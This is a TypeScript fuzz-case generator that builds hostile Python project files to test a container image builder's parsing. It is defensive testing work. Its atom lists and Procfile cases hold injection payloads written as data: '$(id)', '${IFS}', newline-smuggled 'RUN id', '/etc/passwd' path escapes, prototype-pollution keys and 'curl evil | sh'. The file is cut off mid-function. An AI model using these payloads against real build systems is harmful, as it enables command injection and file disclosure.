/*
 * A seeded generator of hostile projects, one family per input format. The same seed always gives
 * the same cases, so a failure found once is found again. Values come from atoms that attack each
 * reader on the way: BuildKit's byte-wise flag words (0x85, 0xA0 inside letters), shell and JSON
 * metacharacters, CSV separators, line breaks and other controls, path escapes, JavaScript
 * prototype names, huge and deep values; credentials are planted where users put them.
 */

export type FuzzFormat =
  | "pyfront"
  | "microb"
  | "mopy"
  | "requirements"
  | "zero-config"
  | "requirements-file"
  | "pipfile"
  | "pep723"
  | "procfile"
  | "app-module"
  | "setuptools"
  | "lockfile";

export interface FuzzCase {
  name: string;
  format: FuzzFormat;
  specFile: string;
  text: string;
  files: Record<string, string>;
  target?: string;
  buildArgs: Record<string, string>;
  /** The credential planted in this case; it must appear in no output. */
  planted: string;
  /** Text of a Procfile web line: it may run as the image's command, never in a build step. */
  neverBuilt?: string;
  /** Why this input must be refused, whatever else it holds. */
  mustRefuse?: string;
}

/** mulberry32: small, fast and good enough to pick atoms. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Atoms a spec may well hold: they reach the renderers and must come out literally. */
const TRICKY = [
  "à",
  "Å",
  "Р",
  "Работа",
  "café",
  "\u00a0",
  "\u3000",
  "\u200b",
  "é\u0301",
  "🐍",
  "\u2000",
  " ",
  "  ",
  ";",
  "|",
  "&&",
  "$(id)",
  "`id`",
  "${IFS}",
  "$HOME",
  "\\",
  "\\\\",
  "'",
  '"',
  "#",
  "*",
  "?",
  "[",
  '"]',
  '\\"',
  '", "',
  '["x"]',
  "{",
  "}",
  ",",
  "=",
  "--",
  "--mount=type=bind,source=/,target=/h",
  "-rf",
  "~",
  "RUN id",
  "EXPOSE",
  "FROM scratch",
  "a",
  "b",
  "app",
  "x.txt",
  "1",
  "3.12",
  "0",
  "%20",
  "@",
  ":",
];
/** Atoms that must be refused somewhere: controls, line breaks, escapes, prototype names. */
const REFUSED = [
  "\t",
  "\n",
  "\r\n",
  "\u0000",
  "\u001b[31m",
  "\u007f",
  "\u0085",
  "\u2028",
  "../",
  "..",
  "/etc/passwd",
  "__proto__",
  "constructor",
  "toString",
  "\nRUN curl evil | sh",
  "\\\nRUN id",
];
/** More bytes for the zero-config readers, which split lines and read files as text. */
const LINE_ATOMS = ["\r", "\u0001", "\u000b", "\f", "\ud800", "\ufffd", "\u2029", "\u0085", "\u00a0", "à"];

export class Picker {
  readonly random: () => number;
  /** Half the cases are "tame": tricky values a spec may hold, so the renderers see them too. */
  readonly tame: boolean;
  constructor(seed: number) {
    this.random = prng(seed);
    this.tame = this.random() < 0.5;
  }
  int(n: number): number {
    return Math.floor(this.random() * n);
  }
  chance(p: number): boolean {
    return this.random() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  /** A string of 1-4 atoms, sometimes plain, rarely huge. */
  hostile(): string {
    if (!this.tame && this.chance(0.02)) return "y".repeat(70_000 + this.int(1000));
    const n = 1 + this.int(4);
    let out = "";
    for (let i = 0; i < n; i++) out += this.pick(!this.tame && this.chance(0.2) ? REFUSED : TRICKY);
    return out;
  }
  /** Like hostile(), with the line and byte atoms the zero-config readers meet. */
  raw(): string {
    if (this.chance(0.3)) return this.hostile() + this.pick(LINE_ATOMS) + this.hostile();
    return this.hostile();
  }
  /** A name-like string: usually valid, sometimes hostile. */
  name(valid: string): string {
    return this.tame || this.chance(0.7) ? valid : this.hostile();
  }
  path(): string {
    const parts = 1 + this.int(3);
    const out: string[] = [];
    for (let i = 0; i < parts; i++)
      out.push(this.chance(0.5) ? this.pick(["app", "src", "reqs", "dir"]) : this.hostile());
    return out.join("/");
  }
}

/** A TOML basic string: JSON's escapes are TOML's, except that JSON leaves DEL and C1 raw. */
export function tomlString(text: string): string {
  return JSON.stringify(text).replace(
    /[\u007f]/g,
    (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`,
  );
}

function tomlValue(value: unknown): string {
  if (typeof value === "string") return tomlString(value);
  if (typeof value === "number" || typeof value === "boolean") return String(value);
  if (Array.isArray(value)) return `[${value.map(tomlValue).join(", ")}]`;
  const entries = Object.entries(value as Record<string, unknown>);
  return `{ ${entries.map(([k, v]) => `${tomlString(k)} = ${tomlValue(v)}`).join(", ")} }`;
}

function tomlTable(header: string, table: Record<string, unknown>): string {
  const lines = [`[${header}]`];
  for (const [k, v] of Object.entries(table)) lines.push(`${tomlString(k)} = ${tomlValue(v)}`);
  return lines.join("\n");
}

/** Hostile text mutations on top of a well-formed file: syntax paths get their share. */
function mutate(p: Picker, text: string): string {
  if (p.tame || !p.chance(0.3)) return text;
  const at = p.int(text.length + 1);
  const insert = p.pick([
    p.hostile(),
    "[".repeat(100),
    "{a=".repeat(80),
    '"""',
    "'",
    "\n[tool.pyfront]\n",
    "&a",
    "*a",
  ]);
  return text.slice(0, at) + insert + text.slice(at);
}

interface Plant {
  planted: string;
  url(): string;
}

function plant(p: Picker, seed: number): Plant {
  const planted = `PLANTED${seed.toString(36)}Pw${p.int(1e9).toString(36)}`;
  return {
    planted,
    url: () =>
      p.pick([
        `https://user:${planted}@pypi.example.org/simple`,
        `https://${planted}@pypi.example.org/simple`,
        `http://u:${encodeURIComponent(planted)}@mirror.local:8080/simple`,
      ]),
  };
}

/** The image keys pyfront and microb share, with hostile values. */
function imageKeys(
  p: Picker,
  files: Record<string, string>,
  creds: Plant,
  microb: boolean,
): Record<string, unknown> {
  const keys: Record<string, unknown> = {};
  const add = (key: string, value: () => unknown) => {
    if (p.chance(0.3)) keys[key] = value();
  };
  add("python_version", () =>
    p.tame ? "3.12" : p.pick(["3.12", "3.11", p.hostile(), "3.12.99999999999999", "3"]),
  );
  if (!microb)
    add("workdir", () =>
      p.pick(["/app", `/${p.hostile()}`, `/srv/${p.hostile()}`, ...(p.tame ? [] : [p.hostile()])]),
    );
  add("env", () => ({
    [p.name("APP_MODE")]: p.hostile(),
    [p.name("B")]: p.chance(0.3) ? "${ARG}" : p.hostile(),
  }));
  add("labels", () => ({ [p.name("org.example.x")]: p.hostile() }));
  add("command", () => [p.hostile(), p.hostile()]);
  add("entrypoint", () => [p.hostile()]);
  add("build_deps", () => [p.tame || p.chance(0.7) ? "libpq-dev" : p.hostile()]);
  add("system_deps", () => [p.tame || p.chance(0.7) ? "curl" : p.hostile()]);
  add("requirements", () => {
    const path = p.path();
    if (p.chance(0.8)) files[path.replace(/^(\.\/)+/, "")] = `flask\n${p.hostile()}\n`;
    return [path];
  });
  add("copy_files", () => {
    const src = p.path();
    if (p.chance(0.7)) files[src] = "x";
    return [{ src, dst: p.pick(["/opt/x", `/${p.hostile()}`]) }];
  });
  add("indices", () => [
    p.chance(0.5)
      ? { url: creds.url() }
      : { url: "https://pypi.example.org/simple", username: p.name("deploy"), password: creds.planted },
  ]);
  if (!microb) {
    add("dependencies", () => [
      p.pick(
        p.tame
          ? ["flask>=2; python_version > '3'", "git+ssh://git@github.com/o/r.git", "requests[socks]==2.*"]
          : [
              `pkg @ git+https://oauth2:${creds.planted}@gitlab.example.com/o/r.git`,
              "flask>=2; python_version > '3'",
              p.hostile(),
              "git+ssh://git@github.com/o/r.git",
            ],
      ),
    ]);
    add("known_hosts", () => {
      const path = p.path();
      files[path] = "github.com ssh-ed25519 AAAA\n";
      return path;
    });
    add("expose", () => [p.tame ? 8000 : p.pick([8000, 0, 70000, p.hostile()])]);
    add("healthcheck", () => ({
      command: [p.hostile()],
      interval: p.tame ? "30s" : p.pick(["30s", 5, p.hostile()]),
    }));
  }
  return keys;
}

function projectTable(p: Picker): string {
  if (!p.chance(0.5)) return "";
  return tomlTable("project", {
    name: p.name("app"),
    version: "1.0",
    dependencies: [p.tame ? "flask>=2" : p.pick(["flask>=2", p.hostile()])],
    ...(p.chance(0.3) ? { "requires-python": p.tame ? ">=3.11" : p.pick([">=3.11", p.hostile()]) } : {}),
  });
}

export function fuzzCase(format: FuzzFormat, seed: number): FuzzCase {
  const p = new Picker(seed * 7919 + format.length);
  const creds = plant(p, seed);
  const files: Record<string, string> = {};
  if (p.chance(0.7)) files["main.py"] = "print('hi')\n";
  const buildArgs: Record<string, string> = p.chance(0.3)
    ? { ARG: p.hostile(), [p.name("X")]: p.hostile() }
    : {};
  let specFile = "pyproject.toml";
  let text: string;
  let target: string | undefined;
  let neverBuilt: string | undefined;
  switch (format) {
    case "pyfront": {
      const top = imageKeys(p, files, creds, false);
      const parts = [projectTable(p), tomlTable("tool.pyfront", top)];
      if (p.chance(0.3)) {
        const name = p.name("dev");
        parts.push(tomlTable(`tool.pyfront.targets.${tomlString(name)}`, imageKeys(p, files, creds, false)));
        if (p.chance(0.7)) target = p.chance(0.8) ? name : p.pick(["toString", "__proto__", "constructor"]);
      }
      text = parts.join("\n\n");
      break;
    }
    case "microb": {
      const name = p.name("default");
      text = [
        projectTable(p),
        tomlTable(`tool.microb.target.${tomlString(name)}`, imageKeys(p, files, creds, true)),
      ].join("\n\n");
      if (p.chance(0.3)) target = p.chance(0.5) ? name : p.hostile();
      break;
    }
    case "requirements": {
      const path = p.path();
      files[path] = `${p.hostile()}\n-r ${p.hostile()}\n--index-url https://u:${creds.planted}@x/simple\n`;
      text = tomlTable("tool.pyfront", {
        requirements: [path],
        ...(p.chance(0.5) ? { requirements: [path, `./${path}`] } : {}),
      });
      break;
    }
    case "zero-config": {
      const dir = p.chance(0.5) ? p.path() : "";
      specFile = dir === "" ? "pyproject.toml" : `${dir}/pyproject.toml`;
      const prefix = dir === "" ? "" : `${dir}/`;
      if (p.chance(0.6)) files[`${prefix}main.py`] = "print(1)\n";
      const parts = [projectTable(p)];
      if (p.chance(0.4))
        parts.push(
          tomlTable("build-system", { requires: ["setuptools"], "build-backend": "setuptools.build_meta" }),
        );
      if (p.chance(0.4)) {
        const path = p.path();
        files[`${path}/setup.py`] = "";
        parts.push(
          tomlTable("tool.poetry", { name: "app" }),
          tomlTable("tool.poetry.dependencies", {
            python: p.tame ? "^3.11" : p.pick(["^3.11", ">=1,<", p.hostile()]),
            lib: { path },
          }),
        );
      }
      if (p.chance(0.2))
        parts.push(p.pick(["tool = 1", 'build-system = "x"', `[zzz.__proto__]\nworkdir = "/polluted"`]));
      text = parts.join("\n\n");
      break;
    }
    case "mopy": {
      specFile = p.pick(["Mopyfile.yaml", "Mopyfile.yml"]);
      const doc: Record<string, unknown> = {
        python: p.tame ? "3.12" : p.pick(["3.12", "3.11", p.hostile()]),
      };
      if (p.chance(0.6))
        doc.envs = { [p.name("A")]: p.hostile(), [p.name("B")]: p.chance(0.3) ? "${ARG}" : p.hostile() };
      if (p.chance(0.4)) doc.labels = { [p.name("org.x")]: p.hostile() };
      if (p.chance(0.5)) {
        const dir = p.path();
        files[`${dir}/setup.py`] = "";
        const txt = `${p.path()}.txt`;
        files[txt] = "flask\n";
        doc.pip = [
          `./${dir}/`,
          `./${txt}`,
          p.pick(["flask", p.hostile(), `git+https://${creds.planted}@h/o/r.git`]),
        ];
      }
      if (p.chance(0.5)) {
        const project = p.path();
        if (p.chance(0.7)) files[`${project}/main.py`] = "print(1)\n";
        doc.project = `./${project}/`;
      }
      if (p.chance(0.4)) {
        doc.indices = [
          p.chance(0.5)
            ? { url: creds.url() }
            : { url: "https://p.example/simple", username: "u", password: creds.planted },
        ];
      }
      // Block mappings with JSON (flow) values: valid YAML that later lines can extend.
      text = Object.entries(doc)
        .map(([k, v]) => `${k}: ${JSON.stringify(v)}`)
        .join("\n");
      if (p.chance(0.2) && doc.labels === undefined) text += `\nenvs2: &e {A: &v one, B: *v}\nlabels: *e\n`;
      break;
    }
    default: {
      const named = namedFile(format, p, creds, files);
      specFile = named.specFile;
      text = named.text;
      if (named.neverBuilt !== undefined) neverBuilt = named.neverBuilt;
      // Its own random stream, so the other families' seeds keep their cases.
      const mustRefuse = plantReservedKey(
        format,
        prng(seed ^ 0x5eed),
        specFile,
        files,
        (t) => {
          text = t;
        },
        text,
      );
      // The named file is in the context too: the readers open it there (includes, console scripts).
      files[specFile] = text;
      // The named files are not TOML throughout: a mutation here is one more hostile line.
      return {
        name: `${format} #${seed}`,
        format,
        specFile,
        text,
        files,
        buildArgs,
        planted: creds.planted,
        ...(neverBuilt !== undefined ? { neverBuilt } : {}),
        ...(mustRefuse !== undefined ? { mustRefuse } : {}),
      };
    }
  }
  return {
    name: `${format} #${seed}`,
    format,
    specFile,
    text: mutate(p, text),
    files,
    ...(target !== undefined ? { target } : {}),
    buildArgs,
    planted: creds.planted,
  };
}

/** The project around a named file: a pyproject.toml with the servers start-command rules look for. */
function serverProject(p: Picker, prefix: string, files: Record<string, string>): void {
  if (!p.chance(0.6)) return;
  const deps = p.pick([
    ["flask", "gunicorn"],
    ["fastapi", "uvicorn"],
    ["django", "gunicorn"],
    ["fastapi[standard]"],
    ["starlette", "uvicorn"],
  ]);
  files[`${prefix}pyproject.toml`] = tomlTable("project", {
    name: p.name("app"),
    version: "1",
    dependencies: deps,
  });
}

/** A line separator: pip and the start-command readers see LF, CRLF, or a lone CR. */
function eol(p: Picker): string {
  return p.tame ? "\n" : p.pick(["\n", "\n", "\r\n", "\r", "\n\u0000"]);
}

function requirementsFile(p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
  const specFile = p.pick(["requirements.txt", "requirements/prod.txt", "requirements/base.in", "reqs.txt"]);
  const dir = specFile.includes("/") ? specFile.slice(0, specFile.lastIndexOf("/") + 1) : "";
  const lines: string[] = [];
  const include = (target: string, create: boolean) => {
    lines.push(
      `${p.pick(["-r", "-c", "--requirement", "--constraint=", "-r  "])} ${target}`.replace("= ", "="),
    );
    const path = `${dir}${target}`.replace(/^(\.\/)+/, "");
    if (create && !path.split("/").includes("..") && !path.startsWith("/")) {
      files[path] = p.chance(0.3)
        ? `-r ${specFile.slice(dir.length)}\nflask\n`
        : `${p.pick(["flask", p.raw()])}\n`;
    }
  };
  const n = 1 + p.int(6);
  for (let i = 0; i < n; i++) {
    switch (p.int(9)) {
      case 0:
        lines.push(p.pick(["flask", "gunicorn", "django==5.*", "requests[socks]>=2", p.raw()]));
        break;
      case 1:
        include(`${p.raw()}.txt`, p.chance(0.7));
        break;
      case 2:
        include(
          p.pick([
            "../secret.txt",
            "/etc/passwd",
            "https://h.example/r.txt",
            "file:///etc/x",
            "..\\x.txt",
            "~/r.txt",
          ]),
          false,
        );
        break;
      case 3: {
        // Loops and fan-out: files that include each other, or very many files.
        const count = p.chance(0.15) ? 90 : 2 + p.int(5);
        for (let k = 0; k < count; k++) {
          files[`${dir}f${k}.txt`] = `-r f${(k + 1) % count}.txt\npkg${k}\n`;
        }
        lines.push("-r f0.txt");
        break;
      }
      case 4:
        lines.push(
          p.pick([
            `--index-url https://u:${creds.planted}@x.example/simple`,
            `--index-url=https://u:${creds.planted}@x.example/simple`,
            `-i ${creds.url()}`,
            `--extra-index-url ${creds.url()}`,
            `--extra-index-url=${creds.url()}`,
            `pkg @ https://u:${creds.planted}@h.example/p.whl`,
          ]),
        );
        break;
      case 5:
        lines.push(p.pick(["-e .", "-e file:.", ".", "-e .[dev]", "--editable=.", `-e ${p.raw()}`]));
        break;
      case 6:
        lines.push(`${p.pick(["flask", "x"])} \\`, `  ${p.raw()}`);
        break;
      case 7:
        lines.push(
          `# ${p.raw()}`,
          `flask ${p.pick(["--hash=sha256:00", "; python_version > '3'", p.raw()])}`,
        );
        break;
      default:
        lines.push(p.raw());
    }
  }
  if (p.chance(0.4)) files["setup.py"] = "from setuptools import setup\nsetup()\n";
  serverProject(p, "", files);
  return { specFile, text: lines.join(eol(p)) + eol(p) };
}

function pipfile(p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
  const specFile = p.chance(0.7) ? "Pipfile" : `${p.pick(["svc", p.raw()])}/Pipfile`;
  const prefix = specFile.slice(0, specFile.length - "Pipfile".length);
  const parts: string[] = [];
  const sources = p.int(3);
  for (let i = 0; i < sources; i++) {
    parts.push(
      `[[source]]\n${tomlString("url")} = ${tomlString(
        p.pick([
          "https://pypi.org/simple",
          creds.url(),
          `https://\${USER}:\${PASS}@x.example/simple`,
          `https://u:${creds.planted}@x.example/\${X}/simple`,
          p.raw(),
        ]),
      )}\nverify_ssl = ${p.pick(["true", "false", '"no"'])}\nname = ${tomlString(p.name("pypi"))}`,
    );
  }
  const packages: Record<string, unknown> = {};
  const n = 1 + p.int(4);
  for (let i = 0; i < n; i++) {
    const name = p.name(p.pick(["flask", "gunicorn", "django", "requests"]));
    packages[name] = p.pick<unknown>([
      "*",
      ">=2",
      p.raw(),
      { version: p.pick(["*", "==1", p.raw()]), extras: [p.name("socks")], markers: p.raw() },
      { path: p.pick([".", "./lib", "../x", "/etc", p.path(), `${p.raw()}/`]), editable: true },
      {
        git: p.pick(["https://github.com/o/r.git", `https://u:${creds.planted}@g.example/r.git`, p.raw()]),
        ref: p.raw(),
      },
      { file: p.pick([`https://u:${creds.planted}@h.example/p.whl`, p.raw()]) },
      { version: 5 },
      [1, 2],
    ]);
    if (p.chance(0.3)) files[`${prefix}lib/setup.py`] = "";
  }
  parts.push(tomlTable("packages", packages));
  if (p.chance(0.3)) parts.push(tomlTable("dev-packages", { pytest: "*", [p.raw()]: p.raw() }));
  if (p.chance(0.4))
    parts.push(tomlTable("requires", { python_version: p.tame ? "3.12" : p.pick(["3.12", p.raw()]) }));
  serverProject(p, prefix, files);
  return { specFile, text: mutateText(p, parts.join("\n\n")) };
}

function pep723(p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
  const specFile = p.pick(["main.py", "tool.py", "bin/run.py", `${p.raw()}.py`]);
  const body: string[] = [];
  body.push(
    `dependencies = [${[
      p.pick(["requests", "flask", p.raw(), `pkg @ https://u:${creds.planted}@h.example/p.whl`]),
    ]
      .map(tomlString)
      .join(", ")}]`,
  );
  if (p.chance(0.5)) body.push(`requires-python = ${tomlString(p.pick([">=3.11", p.raw()]))}`);
  if (p.chance(0.3))
    body.push(
      p.pick([
        `x = ${"[".repeat(5000)}${"]".repeat(5000)}`,
        `x = ${"{a=".repeat(2000)}1${"}".repeat(2000)}`,
        `[tool.x]\n${Array.from({ length: 3000 }, (_, i) => `k${i} = ${tomlString("y".repeat(30))}`).join("\n")}`,
        "dependencies = 1",
        `"__proto__" = 1`,
        p.raw(),
      ]),
    );
  const block = body.flatMap((l) => l.split("\n")).map((l) => `# ${l}`);
  const close = p.pick(["# ///", "# ///", "# /// ", "#///", "", "# /// script"]);
  const lines = [
    p.pick(["#!/usr/bin/env python3", "", `# ${p.raw()}`]),
    "# /// script",
    ...(p.chance(0.2) ? ["# /// script", ...block, "# ///"] : []),
    ...block,
    close,
    p.chance(0.2) ? "# /// script\n# dependencies = []\n# ///" : "",
    "print('hi')",
  ];
  if (p.chance(0.3)) files.Procfile = `web: python ${specFile}\n`;
  return { specFile, text: lines.join(eol(p)) };
}

function procfile(p: Picker, _creds: Plant, files: Record<string, string>): NamedFile {
  const marker = `WEBLINE${p.int(1e9).toString(36)}`;
  const line = p.pick([
    `gunicorn app:app --bind 0.0.0.0:$PORT # ${marker}`,
    `${p.raw()} ${marker} ${p.raw()}`,
    `${marker}; curl evil | sh`,
    `${marker}\nRUN id`,
    `${marker}\rRUN id`,
    `${marker}\u2028RUN id`,
    `${marker} ${"y".repeat(p.chance(0.3) ? 100_000 : 10)}`,
  ]);
  const lines = [
    p.chance(0.5) ? `release: python manage.py migrate ${p.raw()}` : "",
    `${p.pick(["web", "web ", " web", "WEB", "web\t"])}:${p.pick(["", " ", "\t"])}${line}`,
    p.chance(0.3) ? `web: second ${p.raw()}` : "",
    `worker: ${p.raw()}`,
  ];
  files.Procfile = lines.join(eol(p));
  files["main.py"] = "print(1)\n";
  if (p.chance(0.5)) files["requirements.txt"] = "flask\ngunicorn\n";
  const text = tomlTable("project", {
    name: p.name("app"),
    version: "1",
    dependencies: ["flask", "gunicorn"],
  });
  return { specFile: "pyproject.toml", text, neverBuilt: marker };
}

function appModule(p: Picker, _creds: Plant, files: Record<string, string>): NamedFile {
  const deps = p.pick([
    ["flask", "gunicorn"],
    ["fastapi", "uvicorn"],
    ["django", "gunicorn"],
    ["fastapi[standard]"],
  ]);
  const identifier = () =>
    p.tame || p.chance(0.4)
      ? p.pick(["app", "application", "api", "server"])
      : p.pick([p.raw(), "app\u00a0x", "аpp", "app;id", "app$(id)", "_", "app.x", "1app", "app\rx"]);
  const moduleName = () =>
    p.chance(0.5)
      ? p.pick(["app", "mysite", "web", "src/app"])
      : p.pick([p.raw(), "my-site", "a b", "Р", "x;id", "__proto__"]);
  const n = 1 + p.int(3);
  for (let i = 0; i < n; i++) {
    switch (p.int(5)) {
      case 0: {
        const settings = moduleName();
        files["manage.py"] =
          `import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", ${JSON.stringify(`${settings}.settings`)})\n`;
        files[`${settings.replaceAll(".", "/")}/wsgi.py`] = "application = 1\n";
        break;
      }
      case 1: {
        const file = p.pick([
          "main.py",
          "app.py",
          "wsgi.py",
          "asgi.py",
          "app/main.py",
          `${moduleName()}/__init__.py`,
        ]);
        files[file] =
          `${p.pick(["from fastapi import FastAPI", "from flask import Flask", ""])}\n` +
          `${identifier()}${p.pick(["", ": FastAPI", " "])} = ${p.pick(["FastAPI(", "Flask(__name__", "fastapi.FastAPI(", "Starlette("])})\n`;
        if (file.includes("/")) files[`${file.slice(0, file.lastIndexOf("/"))}/__init__.py`] ??= "";
        break;
      }
      case 2: {
        const pkg = moduleName();
        files[`${pkg}/__init__.py`] = `def ${p.pick(["create_app", identifier()])}(${p.raw()}):\n    pass\n`;
        break;
      }
      case 3:
        files["wsgi.py"] =
          `from ${p.pick([".app", "shortener", moduleName()])} import ${p.pick(["app", "application", identifier(), `x, ${identifier()}`])}\n`;
        break;
      default:
        files[`${moduleName()}/__main__.py`] = "print(1)\n";
    }
  }
  const text = tomlTable("project", {
    name: p.name(p.pick(["app", "mysite", "web"])),
    version: "1",
    dependencies: deps,
  });
  return { specFile: "pyproject.toml", text };
}

function setuptools(p: Picker, _creds: Plant, files: Record<string, string>): NamedFile {
  const script = () =>
    p.tame || p.chance(0.4)
      ? p.pick(["serve", "my-tool", "app.cli"])
      : p.pick([p.raw(), "a b", "-rf", "x;id", "à", "x\u00a0y"]);
  const target = () => (p.chance(0.7) ? "app.cli:main" : p.raw());
  const entries = Array.from({ length: 1 + p.int(2) }, () => `${script()} = ${target()}`);
  const cfg = [
    "[metadata]",
    `name = ${p.name("app")}`,
    "[options.entry_points]",
    "console_scripts =",
    ...entries.map((e) => `    ${e}`),
  ].join(eol(p));
  const py = `from setuptools import setup\nsetup(name="app", entry_points={"console_scripts": [${entries
    .map((e) => JSON.stringify(e))
    .join(", ")}]})\n`;
  const specFile = p.pick(["setup.py", "setup.cfg"]);
  if (specFile === "setup.py") {
    if (p.chance(0.3)) files["setup.cfg"] = cfg;
    return { specFile, text: py };
  }
  if (p.chance(0.3)) files["setup.py"] = py;
  return { specFile, text: cfg };
}

interface NamedFile {
  specFile: string;
  text: string;
  neverBuilt?: string;
}

/** A sha256 digest, sometimes hostile. */
function digest(p: Picker): string {
  return p.tame || p.chance(0.7) ? "ab".repeat(32) : p.raw();
}

/** `key = value` lines of a TOML table body. */
function tomlBody(entries: Record<string, unknown>): string {
  return Object.entries(entries)
    .map(([k, v]) => `${k} = ${tomlInline(v)}`)
    .join("\n");
}

/**
 * A project with a lockfile next to it (uv.lock, poetry.lock 2.1, pdm.lock, pylock.toml,
 * Pipfile.lock) whose names, versions, hashes, markers, URLs and paths are hostile: every value a
 * lock holds ends up in a pip requirements line, so none may break a line, pass as a pip option,
 * carry a credential or leave the context.
 */
function lockfile(p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
  /** One of the valid values, or (in a hostile case) sometimes a hostile one. */
  const valid = (values: string[]): string => (p.tame || p.chance(0.6) ? p.pick(values) : p.raw());
  const name = () => p.name(p.pick(["flask", "idna", "tomli", "Werkzeug", "zope.interface"]));
  const version = () => (p.tame || p.chance(0.6) ? p.pick(["3.1.1", "1!2.0", "2.1.0+cpu", "0.4"]) : p.raw());
  const marker = () =>
    p.pick<string | undefined>([
      undefined,
      "python_version < '3.11'",
      "sys_platform == 'win32'",
      "platform_release >= '6'",
      "python_full_version < '3.13.2'",
      valid(["os_name == 'posix'"]),
    ]);
  const url = () =>
    p.pick([
      "http://127.0.0.1:3141/files/flask-3.1.1-py3-none-any.whl",
      creds.url(),
      `https://u:${creds.planted}@files.example/x.whl`,
      valid(["https://files.example/flask-3.1.1-py3-none-any.whl"]),
    ]);
  const path = () => p.pick(["packages/core", "../shared", "/etc", "../../..", p.path(), valid(["libs/x"])]);
  /** A wheel of the package, named as its tool names it, or (hostile) another name. */
  const wheel = (pkg: string, at: string) =>
    p.tame || p.chance(0.6)
      ? `${pkg.replace(/[-.]/g, "_")}-${at}-${p.pick(["py3-none-any", "cp313-cp313-win_amd64"])}.whl`
      : p.pick(["x-1-py3-none-any.whl", `${p.raw()}.whl`]);
  const commit = () => valid(["a".repeat(40)]);
  const project = tomlTable("project", {
    name: "app",
    version: "0.1.0",
    dependencies: p.tame ? [] : p.pick([["flask>=3"], [p.hostile()], []]),
  });
  const n = 1 + p.int(4);
  const format = p.pick(["uv", "poetry", "pdm", "pylock", "pipfile"] as const);
  const parts: string[] = [];
  let lockFile: string;
  switch (format) {
    case "uv": {
      lockFile = "uv.lock";
      const deps: unknown[] = [];
      const packages: string[] = [];
      for (let i = 0; i < n; i++) {
        const pkg = name();
        const m = marker();
        deps.push(m === undefined ? { name: pkg } : { name: pkg, marker: m });
        const source = p.pick<unknown>([
          {
            registry: p.pick([
              "http://127.0.0.1:3141/simple",
              creds.url(),
              valid(["https://pypi.org/simple"]),
            ]),
          },
          { git: `${valid(["https://g.example/r.git"])}?rev=main#${commit()}` },
          { editable: path() },
          { url: url() },
        ]);
        const at = version();
        const wheels = [{ url: `https://files.example/${wheel(pkg, at)}`, hash: `sha256:${digest(p)}` }];
        packages.push(`[[package]]\n${tomlBody({ name: pkg, version: at, source, wheels })}`);
      }
      parts.push(
        'version = 1\nrevision = 2\nrequires-python = ">=3.11"',
        `[[package]]\n${tomlBody({ name: "app", version: "0.1.0", source: { virtual: "." }, dependencies: deps })}`,
        ...packages,
      );
      break;
    }
    case "poetry":
    case "pdm": {
      lockFile = `${format}.lock`;
      for (let i = 0; i < n; i++) {
        const entry: Record<string, unknown> = { name: name(), version: version() };
        const m = marker();
        entry.groups = [valid(format === "poetry" ? ["main", "dev"] : ["default", "dev"])];
        if (m !== undefined) entry[format === "poetry" ? "markers" : "marker"] = m;
        if (format === "pdm" && p.chance(0.2)) entry.path = path();
        entry.files = [
          { file: wheel(String(entry.name), String(entry.version)), hash: `sha256:${digest(p)}` },
        ];
        parts.push(`[[package]]\n${tomlBody(entry)}`);
      }
      parts.push(
        format === "poetry"
          ? '[metadata]\nlock-version = "2.1"\npython-versions = ">=3.11"\ncontent-hash = "00"'
          : '[metadata]\ngroups = ["default"]\nstrategy = ["inherit_metadata"]\nlock_version = "4.5.0"\ncontent_hash = "sha256:00"',
      );
      break;
    }
    case "pylock": {
      lockFile = "pylock.toml";
      parts.push('lock-version = "1.0"\ncreated-by = "pip"');
      for (let i = 0; i < n; i++) {
        const entry: Record<string, unknown> = { name: name(), version: version() };
        const m = marker();
        if (m !== undefined) entry.marker = m;
        const source = p.pick([
          `[[packages.wheels]]\n${tomlBody({ name: wheel(String(entry.name), String(entry.version)), url: url(), hashes: { sha256: digest(p) } })}`,
          `[packages.directory]\n${tomlBody({ path: path() })}`,
          `[packages.vcs]\n${tomlBody({ type: "git", url: valid(["https://g.example/r.git"]), "commit-id": commit() })}`,
        ]);
        parts.push(`[[packages]]\n${tomlBody(entry)}\n${source}`);
      }
      break;
    }
    case "pipfile": {
      files.Pipfile = '[packages]\nflask = "*"\n';
      const entries: Record<string, unknown> = {};
      for (let i = 0; i < n; i++) {
        const m = marker();
        const markers = m !== undefined ? { markers: m } : {};
        entries[name()] = p.pick<Record<string, unknown>>([
          { version: `==${version()}`, hashes: [`sha256:${digest(p)}`], ...markers },
          { version: "*", ...markers },
          {
            git: p.pick(["https://g.example/r.git", `https://u:${creds.planted}@g.example/r.git`, p.raw()]),
            ref: commit(),
          },
          { path: path(), editable: true },
        ]);
      }
      const meta = {
        "pipfile-spec": 6,
        requires: {},
        sources: [{ name: "pypi", url: p.pick(["https://pypi.org/simple", creds.url()]), verify_ssl: true }],
      };
      files["Pipfile.lock"] = mutateText(
        p,
        JSON.stringify({ _meta: meta, default: entries, develop: {} }, null, 4),
      );
      return { specFile: "Pipfile", text: files.Pipfile };
    }
  }
  files[lockFile] = mutateText(p, parts.join("\n\n"));
  return { specFile: "pyproject.toml", text: project };
}

/** A TOML inline value: strings, arrays and tables, written with tomlString. */
function tomlInline(value: unknown): string {
  if (typeof value === "string") return tomlString(value);
  if (Array.isArray(value)) return `[${value.map(tomlInline).join(", ")}]`;
  if (value !== null && typeof value === "object")
    return `{ ${Object.entries(value)
      .map(([k, v]) => `${tomlString(k)} = ${tomlInline(v)}`)
      .join(", ")} }`;
  return String(value);
}

const NAMED_FILE_FAMILIES: Partial<
  Record<FuzzFormat, (p: Picker, creds: Plant, files: Record<string, string>) => NamedFile>
> = {
  "requirements-file": requirementsFile,
  pipfile,
  pep723,
  procfile,
  "app-module": appModule,
  setuptools,
  lockfile,
};

function namedFile(format: FuzzFormat, p: Picker, creds: Plant, files: Record<string, string>): NamedFile {
  const family = NAMED_FILE_FAMILIES[format];
